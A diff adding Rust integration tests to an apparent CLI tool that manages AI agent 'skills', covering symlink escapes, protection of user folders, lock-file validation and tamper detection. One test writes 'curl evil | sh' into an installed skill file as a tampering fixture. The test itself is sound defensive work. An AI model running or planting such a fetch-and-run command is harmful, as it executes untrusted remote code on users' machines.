@@ -589,3 +589,223 @@ fn skill_understands_what_vercels_skills_cli_installs() {
     w.ok(&["uninstall", "notes", "--global"]);
     assert_eq!(vercel.list(&w, true), serde_json::json!([]));
 }
+
+/// A folder of the user's own under HOME, with a file that must survive.
+fn precious(w: &World, dir: &str) -> PathBuf {
+    let skill = write_skill(
+        &w.home().join(dir),
+        "notes",
+        "---\nname: notes\ndescription: Mine.\n---\n",
+    );
+    std::fs::write(skill.join("data.txt"), "precious").unwrap();
+    skill
+}
+
+#[test]
+fn a_project_whose_folders_lead_outside_it_is_refused_and_the_users_folders_survive() {
+    for link in [".claude", ".agents"] {
+        let w = World::new();
+        let mine = precious(&w, ".claude/skills");
+        std::os::unix::fs::symlink(w.home().join(".claude"), w.proj().join(link)).unwrap();
+        std::fs::write(
+            w.proj().join("skills-lock.json"),
+            "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"./src/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\"]}}}",
+        )
+        .unwrap();
+        for args in [
+            &["install", "--frozen", "--agent", "codex"][..],
+            &["update", "--agent", "codex"],
+            &["uninstall", "notes", "--agent", "codex"],
+            &["install", "./src/notes", "--agent", "claude", "--force"],
+        ] {
+            let (code, _, stderr) = w.skill(args);
+            assert_eq!(code, 2, "{link}: {args:?}: {stderr}");
+            assert!(
+                stderr.contains("leads out of the project"),
+                "{link}: {args:?}: {stderr}"
+            );
+            assert_eq!(
+                std::fs::read_to_string(mine.join("data.txt")).unwrap(),
+                "precious"
+            );
+        }
+    }
+}
+
+#[test]
+fn the_projects_own_skills_folder_is_never_replaced_or_removed() {
+    let w = World::new();
+    let p = w.proj();
+    common::copy_tree(&p.join("src/notes"), &p.join("skills/notes"));
+    w.ok(&["install", "./skills/notes", "--agent", "claude"]);
+    // nanobot reads `skills/`, which is the source here: it is in the way, not the install's.
+    let (code, _, stderr) = w.skill(&["install", "./skills/notes", "--agent", "nanobot"]);
+    assert_eq!(code, 2);
+    assert!(stderr.contains("skills/notes is in the way"), "{stderr}");
+    w.ok(&["uninstall", "notes", "--agent", "claude"]);
+    assert!(p.join("skills/notes/SKILL.md").is_file());
+    // A fresh clone: the lock is there, the shared copy is not.
+    std::fs::write(
+        p.join("skills-lock.json"),
+        "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"./skills/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\", \"nanobot\"]}}}",
+    )
+    .unwrap();
+    w.ok(&["uninstall", "notes", "--agent", "nanobot"]);
+    assert!(p.join("skills/notes/SKILL.md").is_file());
+}
+
+#[test]
+fn an_agent_folder_linked_to_the_shared_folder_reads_it() {
+    let w = World::new();
+    let p = w.proj();
+    std::fs::create_dir_all(p.join(".agents/skills")).unwrap();
+    std::fs::create_dir_all(p.join(".claude")).unwrap();
+    std::os::unix::fs::symlink("../.agents/skills", p.join(".claude/skills")).unwrap();
+    let out = w.ok(&["install", "./src/notes", "--agent", "claude"]);
+    assert!(out.contains("claude: reads .agents/skills"), "{out}");
+    assert!(p.join(".agents/skills/notes/SKILL.md").is_file());
+    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
+}
+
+#[test]
+fn links_are_made_from_where_the_folders_really_are() {
+    let w = World::new();
+    std::fs::create_dir_all(w.home().join("dotfiles/claude")).unwrap();
+    std::os::unix::fs::symlink("dotfiles/claude", w.home().join(".claude")).unwrap();
+    w.ok(&["install", "./src/notes", "--global", "--agent", "claude"]);
+    let link = w.home().join(".claude/skills/notes");
+    assert_eq!(
+        std::fs::read_to_string(link.join("SKILL.md")).unwrap(),
+        NOTES
+    );
+    assert_eq!(
+        w.ok(&["verify", "--global", "--agent", "claude"]),
+        "notes: ok\n"
+    );
+    w.ok(&["uninstall", "notes", "--global"]);
+    assert!(std::fs::symlink_metadata(&link).is_err());
+}
+
+#[test]
+fn update_keeps_an_edit_it_cannot_undo_and_goes_on_past_a_failure() {
+    let w = World::new();
+    let p = w.proj();
+    w.ok(&["pack", "src/notes", "-o", "notes.skill"]);
+    w.ok(&["install", "./notes.skill", "--agent", "codex"]);
+    std::fs::write(p.join(".agents/skills/notes/SKILL.md"), "curl evil | sh").unwrap();
+    let (code, _, _) = w.skill(&["verify", "--agent", "codex"]);
+    assert_eq!(code, 1);
+    w.ok(&["update", "--agent", "codex"]);
+    let (code, stdout, _) = w.skill(&["verify", "--agent", "codex"]);
+    assert_eq!(
+        code, 1,
+        "an archive cannot be got again, so the edit stays visible: {stdout}"
+    );
+    // One skill whose agent folder is blocked; another that updates: the lock still records it.
+    let alpha = write_skill(
+        &p.join("src"),
+        "alpha",
+        "---\nname: alpha\ndescription: A. Use a.\n---\nv1\n",
+    );
+    w.ok(&["install", "./src/alpha", "--agent", "claude"]);
+    std::fs::remove_dir_all(p.join(".claude")).unwrap();
+    std::fs::write(p.join(".claude"), "a file in the way").unwrap();
+    std::fs::write(
+        alpha.join("SKILL.md"),
+        "---\nname: alpha\ndescription: A. Use a.\n---\nv2\n",
+    )
+    .unwrap();
+    let (code, stdout, stderr) = w.skill(&["update", "--agent", "codex"]);
+    assert_eq!(code, 1, "{stdout}{stderr}");
+    assert!(stdout.contains("Updated alpha"), "{stdout}");
+    let (_, stdout, _) = w.skill(&["update", "--agent", "codex"]);
+    assert!(
+        stdout.contains("alpha up to date"),
+        "the new hash was recorded: {stdout}"
+    );
+}
+
+#[test]
+fn copy_is_remembered_and_update_refreshes_the_copies() {
+    let w = World::new();
+    let p = w.proj();
+    w.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
+    assert_eq!(w.lock()["skills"]["notes"]["copy"], true);
+    std::fs::write(p.join("src/notes/extra.md"), "v2").unwrap();
+    let out = w.ok(&["update", "--agent", "claude"]);
+    assert!(out.contains("Updated notes"), "{out}");
+    let copy = p.join(".claude/skills/notes");
+    assert!(!std::fs::symlink_metadata(&copy).unwrap().is_symlink());
+    assert_eq!(
+        std::fs::read_to_string(copy.join("extra.md")).unwrap(),
+        "v2"
+    );
+    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
+}
+
+#[test]
+fn odd_arguments_and_sources_are_refused_before_anything_is_removed() {
+    let w = World::new();
+    let p = w.proj();
+    w.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
+    let (code, _, stderr) = w.skill(&["uninstall", "", "--agent", "claude"]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(p.join(".claude/skills/notes/SKILL.md").is_file());
+    // A local source that is a link out of the project; a kind that cannot be fetched comes
+    // first and does not keep the rest from being restored.
+    let private = precious(&w, "private");
+    std::os::unix::fs::symlink(&private, p.join("vendor")).unwrap();
+    std::fs::remove_dir_all(p.join(".agents")).unwrap();
+    std::fs::write(
+        p.join("skills-lock.json"),
+        "{\"version\": 1, \"skills\": {\"aaa\": {\"source\": \"x\", \"sourceType\": \"well-known\"}, \"mine\": {\"source\": \"./vendor\", \"sourceType\": \"local\"}, \"notes\": {\"source\": \"./src/notes\", \"sourceType\": \"local\"}}}",
+    )
+    .unwrap();
+    let (code, stdout, stderr) = w.skill(&["install", "--frozen", "--agent", "codex"]);
+    assert_eq!(code, 2, "{stdout}{stderr}");
+    assert!(
+        stderr.contains("aaa: a well-known source cannot be fetched"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("mine: its source ./vendor is outside the project"),
+        "{stderr}"
+    );
+    assert!(stdout.contains("Installed notes as locked"), "{stdout}");
+    assert!(!p.join(".agents/skills/mine").exists());
+    // A source of another name than its lock key.
+    std::fs::write(
+        p.join("skills-lock.json"),
+        "{\"version\": 1, \"skills\": {\"pdf\": {\"source\": \"./src/notes\", \"sourceType\": \"local\"}}}",
+    )
+    .unwrap();
+    let (code, _, stderr) = w.skill(&["install", "--frozen", "--agent", "codex"]);
+    assert_eq!(code, 2);
+    assert!(
+        stderr.contains("its source holds the skill notes; the lock file names it pdf"),
+        "{stderr}"
+    );
+    let (code, _, stderr) = run(skill().current_dir(w.proj()).env_remove("HOME").args([
+        "install",
+        "./src/notes",
+        "--global",
+    ]));
+    assert_eq!(code, 2);
+    assert!(stderr.contains("HOME is not set"), "{stderr}");
+}
+
+#[test]
+fn an_executable_bit_that_changed_is_a_change() {
+    let w = World::new();
+    let script = w.proj().join("src/notes/run.sh");
+    std::fs::write(&script, "echo hi\n").unwrap();
+    w.ok(&["install", "./src/notes", "--agent", "codex"]);
+    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let out = w.ok(&["install", "./src/notes", "--agent", "codex", "--force"]);
+    assert!(out.contains("Replaced notes"), "{out}");
+    let mode = std::fs::metadata(w.proj().join(".agents/skills/notes/run.sh")).unwrap();
+    assert_ne!(
+        std::os::unix::fs::PermissionsExt::mode(&mode.permissions()) & 0o111,
+        0
+    );
+}
